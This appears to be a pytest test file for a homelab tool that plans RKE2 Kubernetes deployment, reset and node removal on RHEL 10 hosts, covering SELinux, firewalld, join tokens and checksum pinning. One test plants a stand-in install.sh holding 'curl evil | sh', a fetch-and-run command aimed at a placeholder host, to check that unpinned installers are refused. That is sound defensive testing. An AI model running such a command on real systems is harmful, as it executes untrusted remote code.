"""deploy-rke2, reset and node-remove planned with no SSH: host facts in, operations and commands out.

The snapshots in tests/unit/snapshots/ are the `--plan` text (vmstation.report.format_plan)
of each phase for a fresh RHEL 10 host: every probe answered the way such a host answers
it. Rewrite them with VMSTATION_UPDATE_SNAPSHOTS=1 after a deliberate change and read
the diff. Other tests decide single operations from fact strings and run the shell they
produce where it can run here.
"""

from __future__ import annotations

import base64
import datetime
import dataclasses
import hashlib
import os
import stat
import subprocess
from pathlib import Path

import pytest
import yaml

from vmstation import facts as facts_mod, rhel, versions
from vmstation.context import HostContext, RunContext
from vmstation.errors import InputError, InventoryError, Unsupported
from vmstation.execute import PhaseOutcome, apply
from vmstation.facts import HostFacts, parse_os_release
from vmstation.operations import (CHANGE, CHECK, OK, SKIP, WARN, Command, Directory, Edit, Fetch, File,
                                  KernelModule, Service, Sysctl)
from vmstation.phases import reset, rke2
from vmstation.phases.certs import NOT_INITIALISED, CertificateExpiry
from vmstation.targets import build_graph
from tests.unit import plans
from tests.unit.plans import assert_snapshot, decided

DATA = Path(__file__).parent / "data"
SNAPSHOTS = Path(__file__).parent / "snapshots"
RHEL10_KERNEL = "6.12.0-55.9.1.el10_0.x86_64"
RHEL10_SELINUX_CONFIG = b"SELINUX=enforcing\nSELINUXTYPE=targeted\n"


def host_facts(os_name: str, selinux: str | None, paths: set[str], kernel: str = RHEL10_KERNEL) -> HostFacts:
    return HostFacts(os_release=parse_os_release((DATA / f"rke2_os_release_{os_name}").read_text()),
                     kernel=kernel, arch="x86_64", virtualization="none", can_load_modules=True, cgroup="v2",
                     swap_devices=0, containerd_version=None, kubeadm_version=None, selinux=selinux,
                     paths=frozenset(paths))


# A fresh RHEL 10 server install: firewalld running, SELinux enforcing, nm-cloud-setup shipped, nothing of ours.
RHEL10 = host_facts("rhel10", "Enforcing", {"/usr/sbin/firewalld", "/usr/sbin/getenforce", "/run/systemd/system",
                                            "/usr/lib/systemd/system/nm-cloud-setup.service"})
DEBIAN12 = host_facts("debian12", None, {"/run/systemd/system"}, kernel="6.1.0-28-amd64")


TODAY = datetime.date(2026, 11, 28)     # support notices depend on the date: plans are snapshotted on this one


def context(inventory, host: str, facts: HostFacts, tmp_path: Path, **run_values) -> HostContext:
    run_values.setdefault("today", TODAY)
    run = RunContext(inventory, plan=True, artifacts_dir=tmp_path / "artifacts", **run_values)
    return HostContext(run, inventory.host(host), None, facts_source=lambda: facts)


def fresh_fact(operation) -> str:
    """What a fresh RHEL 10 host prints for ``operation``'s probe."""
    if isinstance(operation, (File, Directory)):
        return "absent\n"
    if isinstance(operation, Edit):
        content = RHEL10_SELINUX_CONFIG
        return f"644 root root\n{hashlib.sha256(content).hexdigest()}\n{base64.b64encode(content).decode()}\n"
    if isinstance(operation, Service):
        return "disabled\ninactive\n"
    if isinstance(operation, Sysctl):
        # before br_netfilter is loaded a fresh host has no net.bridge.* keys at all
        return "absent\n" if operation.key.startswith("net.bridge.") else \
            {"net.ipv4.ip_forward": "0\nwritable\n"}.get(operation.key, "128\nwritable\n")
    if isinstance(operation, KernelModule):
        return "loadable\n"
    if isinstance(operation, rke2.NmWakeOnLan):
        return "interface=eno1\nconnection=eno1\nwol=default\n"
    if isinstance(operation, Fetch) and operation.remote_path.endswith("rke2.yaml"):
        return base64.b64encode((DATA / "rke2_kubeconfig.yaml").read_bytes()).decode() + "\n"
    if isinstance(operation, Fetch):
        return "absent\n"
    if isinstance(operation, rke2.JournalCopy):
        return base64.b64encode(b"-- No entries --\n").decode() + "\n"
    if isinstance(operation, CertificateExpiry):
        return f"{NOT_INITIALISED}\nservice=inactive\n"       # rke2-server never started: no certificates yet
    return ""       # packages not installed, rke2 not installed, guards that say "run"


def planned(ctx: HostContext, phase_name: str, fact=fresh_fact) -> PhaseOutcome:
    """The phase decided the way execute.decide does, with each probe answered by ``fact``."""
    return decided(build_graph().phases[phase_name], ctx, fact)


def plan_text(outcome: PhaseOutcome, tmp_path: Path) -> str:
    return plans.plan_text([outcome], tmp_path, show_unchanged=True)


check_snapshot = assert_snapshot


# ---------------------------------------------------------------------------
# The plan of a fresh RHEL 10 host, phase by phase
# ---------------------------------------------------------------------------


@pytest.mark.parametrize("phase", [p.name for p in build_graph().order("deploy-rke2") if ".join-" not in p.name])
def test_plan_of_a_fresh_rhel10_host_matches_its_snapshot(homelab, tmp_path, phase):
    outcome = planned(context(homelab, "homelab", RHEL10, tmp_path), phase)
    check_snapshot(f"rke2_{phase.split('.', 1)[1]}", plan_text(outcome, tmp_path))


def topology(homelab, extra: dict[str, str]):
    """The homelab's RKE2 cluster grown by ``extra`` hosts (name -> role), on 192.168.4.7x."""
    hosts = list(homelab.hosts) + [dataclasses.replace(homelab.host("homelab"), name=name, roles=(role,),
                                                       address=f"192.168.4.{70 + index}", mac=None)
                                   for index, (name, role) in enumerate(extra.items())]
    return dataclasses.replace(homelab, hosts=tuple(hosts))


def cluster_plan(inventory, tmp_path) -> str:
    """The deploy-rke2 plan of every host of the RKE2 cluster, phase by phase, as each fresh host answers."""
    outcomes = []
    for phase in build_graph().order("deploy-rke2"):
        for host in build_graph().phases[phase.name].select(inventory):
            outcomes.append(planned(context(inventory, host.name, RHEL10, tmp_path), phase.name))
    return plans.plan_text(outcomes, tmp_path, show_unchanged=True)


@pytest.mark.parametrize("name, extra, base", [
    ("one_server_one_agent", {"compute1": "agent"}, None),
    ("three_servers", {"homelab2": "server", "homelab3": "server"}, "rke2_cluster_one_server_one_agent")])
def test_plan_of_a_grown_rke2_cluster_matches_its_snapshot(homelab, tmp_path, name, extra, base):
    check_snapshot(f"rke2_cluster_{name}", cluster_plan(topology(homelab, extra), tmp_path), base=base)


def test_joining_nodes_get_server_url_and_the_token_read_from_the_first_server(homelab, tmp_path):
    inventory = topology(homelab, {"compute1": "agent", "homelab2": "server", "homelab3": "server"})
    token = "K10" + "ab" * 32 + "::server:" + "cd" * 16
    asked = []

    def remote(host, script):
        asked.append((host.name, script))
        return token + "\n"

    configs = {}
    for name in ("compute1", "homelab2"):
        ctx = context(inventory, name, RHEL10, tmp_path)
        ctx.run.remote = remote
        ctx.run.plan = False
        configs[name] = next(op for op in rke2.join_configure(ctx) if isinstance(op, File))
    assert {h for h, _ in asked} == {"homelab"} and all(token not in s for _, s in asked)
    assert asked[0][1] == "if [ -s /var/lib/rancher/rke2/server/node-token ]; then " \
                          "cat -- /var/lib/rancher/rke2/server/node-token; fi\n"
    for name, role in (("compute1", "agent"), ("homelab2", "server")):
        config = yaml.safe_load(configs[name].content)
        assert (config["server"], config["token"]) == ("https://192.168.4.62:9345", token)
        assert configs[name].secret and configs[name].mode == "0600"
        assert ("cni" in config) is (role == "server")
        step = configs[name].decide("absent\n", frozenset())
        assert token not in step.diff and token not in repr(step.reason)
    restart = [op for op in rke2.join_configure(ctx) if isinstance(op, Command)]
    assert restart[0].script == "systemctl restart rke2-server.service"


def test_the_config_copied_from_a_joining_node_leaves_the_token_there(homelab, tmp_path):
    inventory = topology(homelab, {"compute1": "agent"})
    fetch = next(op for op in rke2.artifacts(context(inventory, "compute1", RHEL10, tmp_path)) if isinstance(op, Fetch))
    config = b'server: "https://192.168.4.62:9345"\ntoken: "K10abc::server:secret"\nnode-name: "compute1"\n'
    step = fetch.decide(base64.b64encode(config).decode() + "\n", frozenset())
    copied = step.local_writes[0].content
    assert b"secret" not in copied and yaml.safe_load(copied)["node-name"] == "compute1"
    assert step.local_writes[0].mode == 0o600


def test_a_join_before_the_first_server_has_a_token_stops_that_node(homelab, tmp_path):
    inventory = topology(homelab, {"compute1": "agent"})
    ctx = context(inventory, "compute1", RHEL10, tmp_path)
    ctx.run.remote, ctx.run.plan = (lambda host, script: ""), False
    with pytest.raises(Unsupported, match="homelab has no /var/lib/rancher/rke2/server/node-token yet"):
        list(rke2.join_configure(ctx))


def test_rhel10_prep_installs_with_dnf_opens_firewalld_and_keeps_selinux_enforcing(homelab, tmp_path):
    outcome = planned(context(homelab, "homelab", RHEL10, tmp_path), "rke2.system-prep")
    commands = [c for s in outcome.steps for c in s.commands]
    assert "dnf install -y -q container-selinux" in commands
    assert f"dnf install -y kernel-modules-extra-{RHEL10_KERNEL}" in commands
    assert "if systemctl cat firewalld.service >/dev/null 2>&1; then systemctl disable --now firewalld.service; fi" \
        in commands                                  # rke2-docs known issue: firewalld conflicts with Canal
    assert "nmcli connection modify eno1 802-3-ethernet.wake-on-lan magic" in commands
    assert any("systemctl disable --now nm-cloud-setup.service" in c for c in commands)
    labels = {s.label: s for s in outcome.steps}
    assert labels["file /etc/NetworkManager/conf.d/rke2-canal.conf"].status == CHANGE
    assert labels["edit /etc/selinux/config (line 'SELINUX=enforcing')"].status == OK
    assert [s.reason for s in outcome.steps if s.status == WARN] == []


def test_open_ports_keeps_firewalld_with_the_known_issue_said(homelab, tmp_path):
    cluster = dataclasses.replace(homelab.cluster("rke2"), firewall="open-ports")
    inventory = dataclasses.replace(homelab, clusters=(homelab.cluster("debian"), cluster))
    outcome = planned(context(inventory, "homelab", RHEL10, tmp_path), "rke2.system-prep")
    firewall = next(c for s in outcome.steps for c in s.commands if c.startswith("firewall-cmd"))
    assert "--add-port=6443/tcp" in firewall and "--add-port=9345/tcp" in firewall and "--add-port=8472/udp" in firewall
    assert "--zone=trusted --add-source=10.42.0.0/16 --add-source=10.43.0.0/16" in firewall
    warnings = [s.reason for s in outcome.steps if s.status == WARN]
    assert len(warnings) == 1 and "firewalld conflicts with Canal" in warnings[0]


def test_bridge_sysctls_wait_for_br_netfilter_loaded_in_the_same_phase(homelab, tmp_path):
    fresh = planned(context(homelab, "homelab", RHEL10, tmp_path), "rke2.system-prep")
    bridge = [s for s in fresh.steps if s.label == "sysctl net.bridge.bridge-nf-call-iptables=1"]
    assert [(s.status, s.reason) for s in bridge] == [(CHANGE, "appears once br_netfilter is loaded")]
    assert bridge[0].commands == ("sysctl -q -w net.bridge.bridge-nf-call-iptables=1",)

    def loaded(operation):
        if isinstance(operation, KernelModule):
            return "present\n"
        if isinstance(operation, Sysctl) and operation.key.startswith("net.bridge."):
            return "1\nwritable\n"
        return fresh_fact(operation)

    again = planned(context(homelab, "homelab", RHEL10, tmp_path), "rke2.system-prep", fact=loaded)
    assert [s.status for s in again.steps if s.label.startswith("sysctl net.bridge.")] == [OK, OK]


def test_a_release_without_el10_rpms_and_selinux_is_refused_as_bad_input(homelab, tmp_path):
    cluster = dataclasses.replace(homelab.cluster("rke2"), version="v1.29.15+rke2r1")
    inventory = dataclasses.replace(homelab, clusters=(homelab.cluster("debian"), cluster))
    with pytest.raises(InventoryError) as caught:
        list(rke2.system_prep(context(inventory, "homelab", RHEL10, tmp_path)))
    message = str(caught.value)
    assert message.startswith("hosts.toml: key 'clusters.rke2.version': RKE2 v1.29.15+rke2r1 publishes no RPMs "
                              "and no SELinux policy (rke2-selinux) for RHEL 10")
    assert "v1.35.0+rke2r1 or later" in message and "selinux = false" in message and "\n" not in message


def test_selinux_false_installs_an_old_release_from_the_tarball_with_path_and_says_so(homelab, tmp_path):
    cluster = dataclasses.replace(homelab.cluster("rke2"), version="v1.29.15+rke2r1", selinux=False)
    inventory = dataclasses.replace(homelab, clusters=(homelab.cluster("debian"), cluster))
    prep = planned(context(inventory, "homelab", RHEL10, tmp_path), "rke2.system-prep")
    warnings = [s.reason for s in prep.steps if s.status == WARN]
    assert any("publishes no RPMs for RHEL 10" in w and "without SELinux labels" in w for w in warnings)
    assert any("the 1.29 line left upstream support on 2025-02-28" in w for w in warnings)
    ops = list(rke2.install(context(inventory, "homelab", RHEL10, tmp_path)))
    assert [op.path for op in ops if isinstance(op, File)] == ["/etc/profile.d/vmstation-rke2.sh"]
    assert "INSTALL_RKE2_METHOD=tar" in ops[-1].script
    config = yaml.safe_load(next(op for op in rke2.configure(context(inventory, "homelab", RHEL10, tmp_path))
                                 if isinstance(op, File)).content)
    assert "selinux" not in config


def test_a_debian_host_gets_the_generic_path_and_the_plan_says_so(homelab, tmp_path):
    outcome = planned(context(homelab, "homelab", DEBIAN12, tmp_path), "rke2.system-prep")
    notes = [s.reason for s in outcome.steps if s.status == WARN]
    assert notes == [("Debian GNU/Linux 12 (bookworm) is not RHEL-family: generic prep only (no dnf packages, "
                      "firewalld or SELinux steps); RKE2 installs from its tarball")]
    labels = [s.label for s in outcome.steps]
    assert not any(label.startswith(("dnf", "run install kernel-modules-extra", "edit /etc/selinux", "run open"))
                   for label in labels)
    assert "file /etc/sysctl.d/90-rke2.conf" in labels and "file /etc/NetworkManager/conf.d/rke2-canal.conf" in labels


def test_firewall_disabled_in_the_inventory_stops_firewalld(homelab, tmp_path):
    cluster = dataclasses.replace(homelab.cluster("rke2"), firewall="disabled")
    inventory = dataclasses.replace(homelab, clusters=(homelab.cluster("debian"), cluster))
    outcome = planned(context(inventory, "homelab", RHEL10, tmp_path), "rke2.system-prep")
    commands = [c for s in outcome.steps for c in s.commands]
    assert "if systemctl cat firewalld.service >/dev/null 2>&1; then systemctl disable --now firewalld.service; fi" \
        in commands
    assert not any(c.startswith("firewall-cmd") for c in commands)


def test_selinux_permissive_is_made_enforcing_and_disabled_is_only_reported(homelab, tmp_path):
    permissive = planned(context(homelab, "homelab", dataclasses.replace(RHEL10, selinux="Permissive"), tmp_path),
                         "rke2.system-prep")
    assert "setenforce 1" in [c for s in permissive.steps for c in s.commands]
    disabled = planned(context(homelab, "homelab", dataclasses.replace(RHEL10, selinux="Disabled"), tmp_path),
                       "rke2.system-prep")
    labels = [s.label for s in disabled.steps]
    assert "edit /etc/selinux/config (line 'SELINUX=enforcing')" not in labels
    assert "run SELinux enforcing now" not in labels
    assert any("SELinux is disabled" in s.reason for s in disabled.steps if s.status == WARN)


# ---------------------------------------------------------------------------
# Single operations: facts in, decisions out, shell run where it can run here
# ---------------------------------------------------------------------------


def test_wake_on_lan_decisions():
    op = rke2.NmWakeOnLan(None, "d0:94:66:ad:8b:42")
    assert op.decide("no-nmcli\n", frozenset()).status == SKIP
    assert op.decide("interface=\nconnection=\nwol=\n", frozenset()).status == SKIP
    assert op.decide("interface=eno1\nconnection=eno1\nwol=magic\n", frozenset()).status == OK
    step = op.decide("interface=eno1\nconnection=Wired connection 1\nwol=default\n", frozenset())
    assert step.status == CHANGE
    assert step.commands[0] == "nmcli connection modify 'Wired connection 1' 802-3-ethernet.wake-on-lan magic"
    assert step.commands[1] == "if command -v ethtool >/dev/null; then ethtool -s eno1 wol g; fi"


def test_wake_on_lan_probe_finds_the_nic_by_mac_here():
    # This machine has no nmcli or has one; either way the probe must answer without failing the script.
    output = _probe_here([rke2.NmWakeOnLan(None, "02:00:00:00:00:01").probe(False), "echo still-running"])
    assert output[1] == "still-running\n"
    assert output[0].startswith(("no-nmcli", "interface="))


def test_installed_rke2_is_recognised_by_version(tmp_path):
    op = rke2.Rke2Installed("v1.29.15+rke2r1", "rhel", "install-it", "get.rke2.io, rpm")
    assert op.decide("rke2 version v1.29.15+rke2r1 (5ab1a3c)\ngo version go1.22\n", frozenset()).status == OK
    other = op.decide("rke2 version v1.28.9+rke2r1 (abc)\n", frozenset())
    assert (other.status, other.reason, other.commands) == (CHANGE, "rke2 v1.28.9+rke2r1 installed", ("install-it",))
    assert op.decide("", frozenset()).reason == "rke2 not installed"


def test_installed_rke2_probe_does_not_end_the_probe_script():
    # rhel.installed_version_query ends with `exit 1`: inside the one probe script it must not stop the others.
    op = rke2.Rke2Installed("v1.29.15+rke2r1", "rhel", "install-it", "x")
    assert _probe_here([op.probe(False), "echo still-running"])[1] == "still-running\n"


def test_online_install_uses_the_script_with_the_version_and_rpm_on_rhel(homelab, tmp_path):
    ops = list(rke2.install(context(homelab, "homelab", RHEL10, tmp_path)))
    assert len(ops) == 1 and isinstance(ops[0], rke2.Rke2Installed)
    assert "INSTALL_RKE2_VERSION=v1.35.7+rke2r1" in ops[0].script and "INSTALL_RKE2_METHOD=rpm" in ops[0].script


def test_airgapped_install_without_the_files_cannot_run_here(homelab, tmp_path):
    inventory = _with_artifacts(homelab, tmp_path / "empty")
    (tmp_path / "empty").mkdir()
    (tmp_path / "empty" / "install.sh").write_text("#!/bin/sh\n")
    with pytest.raises(Unsupported) as caught:
        list(rke2.install(context(inventory, "homelab", RHEL10, tmp_path)))
    message = caught.value.message
    assert str(tmp_path / "empty") in message
    assert "rke2.linux-amd64.tar.gz, rke2-images.linux-amd64.tar.zst, sha256sum-amd64.txt missing" in message


def test_airgapped_install_refuses_a_file_whose_checksum_differs(homelab, tmp_path):
    directory = _artifacts_dir(tmp_path)
    (directory / "rke2.linux-amd64.tar.gz").write_bytes(b"truncated")
    with pytest.raises(InputError, match="rke2.linux-amd64.tar.gz: sha256 does not match"):
        list(rke2.install(context(_with_artifacts(homelab, directory), "homelab", RHEL10, tmp_path)))


TEST_INSTALL_SCRIPT = b"#!/bin/sh\n"


@pytest.fixture(autouse=True)
def test_install_script_is_pinned(monkeypatch):
    """The air-gap directories of these tests hold a stand-in install.sh: pinned for the test's duration."""
    monkeypatch.setitem(versions.RKE2_INSTALL_SCRIPTS, hashlib.sha256(TEST_INSTALL_SCRIPT).hexdigest(),
                        "the stand-in install.sh of test_rke2_plan")


def test_airgapped_install_refuses_an_install_sh_that_is_not_pinned(homelab, tmp_path):
    directory = _artifacts_dir(tmp_path)
    (directory / "install.sh").write_text("#!/bin/sh\ncurl evil | sh\n")
    with pytest.raises(InputError, match="install.sh: sha256 [0-9a-f]{64} is not a pinned RKE2 install.sh"):
        list(rke2.install(context(_with_artifacts(homelab, directory), "homelab", RHEL10, tmp_path)))


def test_airgapped_selinux_rpm_is_installed_only_when_pinned(homelab, tmp_path, monkeypatch):
    directory = _artifacts_dir(tmp_path)
    rpm = directory / "rke2-selinux-0.20-1.el10.noarch.rpm"
    rpm.write_bytes(b"rpm bytes")
    inventory = _with_artifacts(homelab, directory)
    with pytest.raises(InputError, match="rke2-selinux-0.20-1.el10.noarch.rpm: sha256 .* not a pinned rke2-selinux"):
        list(rke2.install(context(inventory, "homelab", RHEL10, tmp_path)))
    monkeypatch.setitem(versions.RKE2_SELINUX_RPMS, rpm.name, hashlib.sha256(b"other bytes").hexdigest())
    with pytest.raises(InputError, match="not a pinned rke2-selinux"):
        list(rke2.install(context(inventory, "homelab", RHEL10, tmp_path)))
    monkeypatch.setitem(versions.RKE2_SELINUX_RPMS, rpm.name, hashlib.sha256(b"rpm bytes").hexdigest())
    ops = list(rke2.install(context(inventory, "homelab", RHEL10, tmp_path)))
    assert any(isinstance(op, Command) and rpm.name in op.label for op in ops)
    # or listed in the checksum file rke2-selinux's release publishes beside its RPMs
    monkeypatch.delitem(versions.RKE2_SELINUX_RPMS, rpm.name)
    _release_sums_of_rpms(directory)
    ops = list(rke2.install(context(inventory, "homelab", RHEL10, tmp_path)))
    assert any(isinstance(op, Command) and rpm.name in op.label for op in ops)
    rpm.write_bytes(b"rpm bytes, altered")
    with pytest.raises(InputError, match="not a pinned rke2-selinux"):
        list(rke2.install(context(inventory, "homelab", RHEL10, tmp_path)))


def test_airgapped_install_uploads_checked_files_then_runs_install_sh(homelab, tmp_path):
    directory = _artifacts_dir(tmp_path)
    (directory / POLICY_RPM).write_bytes(b"rpm")
    _release_sums_of_rpms(directory)
    ops = list(rke2.install(context(_with_artifacts(homelab, directory), "homelab", RHEL10, tmp_path)))
    files = {op.path: op for op in ops if isinstance(op, File)}
    assert set(files) == {f"{rke2.REMOTE_ARTIFACTS}/{name}" for name in (*rke2.AIRGAP_FILES, POLICY_RPM)} | {
        rhel.RKE2_PROFILE}
    # the policy first: install.sh restores the SELinux contexts of what it unpacks only once it is there
    order = [op.label for op in ops if isinstance(op, (Command, rke2.Rke2Installed))]
    assert order[0] == f"run install {POLICY_RPM}" and order[1].startswith("install RKE2")
    assert files[f"{rke2.REMOTE_ARTIFACTS}/rke2.linux-amd64.tar.gz"].data == b"tarball"
    installer = next(op for op in ops if isinstance(op, rke2.Rke2Installed))
    assert installer.script == ("INSTALL_RKE2_VERSION=v1.35.7+rke2r1 INSTALL_RKE2_TYPE=server "
                                f"INSTALL_RKE2_ARTIFACT_PATH={rke2.REMOTE_ARTIFACTS} INSTALL_RKE2_METHOD=tar "
                                f"sh {rke2.REMOTE_ARTIFACTS}/install.sh")


POLICY_RPM = "rke2-selinux-0.22-1.el10.noarch.rpm"


def test_airgapped_selinux_without_the_el10_policy_rpm_is_bad_input(homelab, tmp_path):
    directory = _artifacts_dir(tmp_path)
    (directory / "rke2-selinux-0.22-1.el9.noarch.rpm").write_bytes(b"rpm")
    _release_sums_of_rpms(directory)
    inventory = _with_artifacts(homelab, directory)
    with pytest.raises(InventoryError, match="key 'clusters.rke2.artifacts_dir': selinux is on but artifacts_dir .* "
                                             "holds no rke2-selinux-\\*.el10.noarch.rpm"):
        list(rke2.install(context(inventory, "homelab", RHEL10, tmp_path)))
    cluster = dataclasses.replace(inventory.cluster("rke2"), selinux=False)
    ops = list(rke2.install(context(dataclasses.replace(inventory, clusters=(inventory.cluster("debian"), cluster)),
                                    "homelab", RHEL10, tmp_path)))
    assert not [op for op in ops if isinstance(op, Command)]


def test_configure_restarts_a_running_server_only_when_the_config_changed(homelab, tmp_path):
    ops = list(rke2.configure(context(homelab, "homelab", RHEL10, tmp_path)))
    config = next(op for op in ops if isinstance(op, File))
    assert (config.path, config.mode) == ("/etc/rancher/rke2/config.yaml", "0600")
    assert yaml.safe_load(config.content)["selinux"] is True
    restart = next(op for op in ops if isinstance(op, Command))
    assert restart.decide("", frozenset({config.label})).commands == ("systemctl restart rke2-server.service",)
    assert restart.decide("", frozenset()).status == OK
    assert restart.decide("onlyif-false", frozenset({config.label})).status == OK


def test_configure_stops_on_a_config_rke2_would_reject(homelab, tmp_path):
    cluster = dataclasses.replace(homelab.cluster("rke2"), cni="weave")
    inventory = dataclasses.replace(homelab, clusters=(homelab.cluster("debian"), cluster))
    with pytest.raises(InputError, match="homelab: .*key 'cni' is 'weave'"):
        list(rke2.configure(context(inventory, "homelab", RHEL10, tmp_path)))


def test_artifacts_are_written_locally_0600_with_the_host_address(homelab, tmp_path):
    ctx = context(homelab, "homelab", RHEL10, tmp_path)
    outcome = planned(ctx, "rke2.artifacts")
    apply(outcome.steps, ctx)      # nothing runs remotely: only the local writes
    local = tmp_path / "artifacts" / "homelab"
    kubeconfig = yaml.safe_load((local / "rke2.yaml").read_text())
    assert kubeconfig["clusters"][0]["cluster"]["server"] == "https://192.168.4.62:6443"
    assert (local / "rke2-server.journal").read_text() == "-- No entries --\n"
    for name in ("rke2.yaml", "rke2-server.journal"):
        assert stat.S_IMODE((local / name).stat().st_mode) == 0o600
    assert [s.status for s in planned(ctx, "rke2.artifacts").steps] == [OK, SKIP, CHECK]


def test_sysctl_settings_come_from_the_file():
    assert rke2.sysctl_settings("# c\n; c\nnet.ipv4.ip_forward = 1\n\nfs.x=2\n") == [
        ("net.ipv4.ip_forward", "1"), ("fs.x", "2")]


# ---------------------------------------------------------------------------
# reset and node-remove
# ---------------------------------------------------------------------------


def test_reset_plan_of_a_kubeadm_host_matches_its_snapshot(homelab, tmp_path):
    outcome = planned(context(homelab, "masternode", DEBIAN12, tmp_path), "reset.kubeadm")
    check_snapshot("reset_kubeadm", plan_text(outcome, tmp_path))


def test_reset_plan_of_an_rke2_host_matches_its_snapshot(homelab, tmp_path):
    installed = dataclasses.replace(RHEL10, paths=RHEL10.paths | {"/usr/bin/rke2-uninstall.sh"})
    outcome = planned(context(homelab, "homelab", installed, tmp_path), "reset.rke2")
    check_snapshot("reset_rke2", plan_text(outcome, tmp_path))


@pytest.mark.parametrize("host, phase", [("masternode", "reset.kubeadm"), ("homelab", "reset.rke2")])
def test_a_second_reset_changes_nothing(homelab, tmp_path, host, phase):
    def after_reset(operation) -> str:
        # What a reset host answers: every onlyif-test fails, every removes-path is gone.
        return "onlyif-false removes-absent"
    outcome = planned(context(homelab, host, DEBIAN12 if host == "masternode" else RHEL10, tmp_path), phase,
                      fact=after_reset)
    assert outcome.steps and {s.status for s in outcome.steps} == {OK}


def test_the_uninstall_script_is_taken_from_where_the_install_put_it(homelab, tmp_path):
    tarball = dataclasses.replace(RHEL10, paths=RHEL10.paths | {"/usr/local/bin/rke2-uninstall.sh"})
    ops = list(reset.reset_rke2(context(homelab, "homelab", tarball, tmp_path)))
    assert ops[0].description == "stop RKE2 and its containers (rke2-killall.sh)"
    assert ops[1].script == "/usr/local/bin/rke2-uninstall.sh" and ops[1].removes == ops[1].script


def test_node_remove_of_rke2_nodes_drains_on_the_first_server_and_never_removes_it(homelab, tmp_path):
    inventory = topology(homelab, {"compute1": "agent", "homelab2": "server", "homelab3": "server"})
    for node in ("compute1", "homelab2"):
        removal = list(reset.drain(context(inventory, node, RHEL10, tmp_path, limit=(node,))))
        assert [(op.operation.node, op.host.name) for op in removal] == [(node, "homelab")]
        steps = [s.label for s in planned(context(inventory, node, RHEL10, tmp_path, limit=(node,)),
                                          "node-remove.reset").steps]
        assert steps[:2] == ["run stop RKE2 and its containers (rke2-killall.sh)",
                             "run uninstall RKE2 (/usr/bin/rke2-uninstall.sh)"]
    with pytest.raises(InputError, match="host 'homelab' is the server of cluster 'rke2'"):
        list(reset.drain(context(inventory, "homelab", RHEL10, tmp_path, limit=("homelab",))))


def test_verify_checks_rke2_nodes_by_role(homelab):
    from vmstation.verify import checks_for

    inventory = topology(homelab, {"compute1": "agent", "homelab2": "server", "homelab3": "server"})
    cluster = inventory.cluster("rke2")

    def names(host):
        return [(c.phase, c.name) for c in checks_for(inventory.host(host), cluster, first_server="homelab")
                if c.phase != "rke2.system-prep"]
    assert names("homelab") == [("rke2.configure", "config.yaml, 0600, initialising (no server to join)"),
                                ("rke2.start", "rke2-server running and enabled")]
    assert names("homelab2") == [("rke2.join-configure", "config.yaml, 0600, joining the first server with a token"),
                                 ("rke2.join-start", "rke2-server running and enabled")]
    assert names("compute1")[1] == ("rke2.join-start", "rke2-agent running and enabled")


def test_node_remove_drains_and_deletes_on_the_control_plane(homelab, tmp_path, monkeypatch):
    kubectl = _fake_kubectl(tmp_path, nodes=["masternode", "storagenodet3500"])
    monkeypatch.setenv("PATH", f"{tmp_path / 'bin'}:{os.environ['PATH']}")
    ctx = context(homelab, "storagenodet3500", DEBIAN12, tmp_path, limit=("storagenodet3500",))
    (removal,) = reset.drain(ctx)      # pure: declared to run on the control plane, nothing asked yet
    assert removal.host.name == "masternode" and not kubectl.exists()
    step = removal.decide(_probe_here([removal.probe(False)])[0], frozenset())
    assert (step.status, step.on.name, step.label) == (CHANGE, "masternode",
                                                       "drain and delete node storagenodet3500 (on masternode)")
    for command in step.commands:      # what the control plane's placing script runs
        subprocess.run(["sh", "-c", command], check=True, timeout=30, capture_output=True)
    calls = kubectl.read_text().splitlines()
    assert calls[1] == ("--kubeconfig=/etc/kubernetes/admin.conf drain storagenodet3500 --ignore-daemonsets "
                        "--delete-emptydir-data --timeout=300s")
    assert calls[2] == "--kubeconfig=/etc/kubernetes/admin.conf delete node storagenodet3500"
    again = removal.decide(_probe_here([removal.probe(False)])[0], frozenset())
    assert again.status == OK and "removed already" in again.reason


def test_node_remove_refuses_a_control_plane_and_a_run_without_limit(homelab, tmp_path):
    with pytest.raises(InputError, match="is the control-plane of cluster 'debian'"):
        list(reset.drain(context(homelab, "masternode", DEBIAN12, tmp_path, limit=("masternode",))))
    with pytest.raises(InputError, match="node-remove needs the node to remove"):
        list(reset.drain(context(homelab, "storagenodet3500", DEBIAN12, tmp_path)))


# ---------------------------------------------------------------------------
# helpers
# ---------------------------------------------------------------------------


def _probe_here(probes: list[str]) -> list[str]:
    token = facts_mod.new_token()
    result = subprocess.run(["sh", "-s"], input=facts_mod.probe_script(probes, token), capture_output=True,
                            text=True, timeout=30, check=False)
    return facts_mod.split_sections(result.stdout, token, len(probes))


def _artifacts_dir(tmp_path: Path) -> Path:
    directory = tmp_path / "rke2-artifacts"
    directory.mkdir()
    release = {"rke2.linux-amd64.tar.gz": b"tarball", "rke2-images.linux-amd64.tar.zst": b"images"}
    for name, content in release.items():
        (directory / name).write_bytes(content)
    (directory / "sha256sum-amd64.txt").write_text(
        "".join(f"{hashlib.sha256(c).hexdigest()}  {n}\n" for n, c in release.items()))
    (directory / "install.sh").write_text("#!/bin/sh\n")
    return directory


def _release_sums_of_rpms(directory: Path) -> None:
    """The checksum file rke2-selinux's release publishes beside its RPMs, for the RPMs in ``directory``."""
    (directory / "sha256sum-centos10-noarch.txt").write_text("".join(
        f"{hashlib.sha256(p.read_bytes()).hexdigest()}  {p.name}\n" for p in sorted(directory.glob("*.rpm"))))


def _with_artifacts(inventory, directory: Path):
    cluster = dataclasses.replace(inventory.cluster("rke2"), artifacts_dir=str(directory))
    return dataclasses.replace(inventory, clusters=(inventory.cluster("debian"), cluster))


def _fake_kubectl(tmp_path: Path, nodes: list[str]) -> Path:
    """A kubectl on PATH that logs its arguments and knows ``nodes`` until one is deleted."""
    bin_dir, log, state = tmp_path / "bin", tmp_path / "kubectl.log", tmp_path / "nodes"
    bin_dir.mkdir()
    state.write_text("".join(n + "\n" for n in nodes))
    script = bin_dir / "kubectl"
    script.write_text(f"""#!/bin/sh
echo "$*" >> {log}
case "$2 $3" in
  "get node") grep -qx "$4" {state} ;;
  "delete node") grep -vx "$4" {state} > {state}.new; mv {state}.new {state} ;;
esac
""")
    script.chmod(0o755)
    return log


def test_preflight_refuses_selinux_without_a_policy_before_any_host_and_passes_the_homelab(homelab):
    from vmstation.offline import preflight

    preflight(homelab, "deploy-rke2")           # v1.35.7+rke2r1 has el10 RPMs and rke2-selinux
    old = dataclasses.replace(homelab.cluster("rke2"), version="v1.31.14+rke2r1")
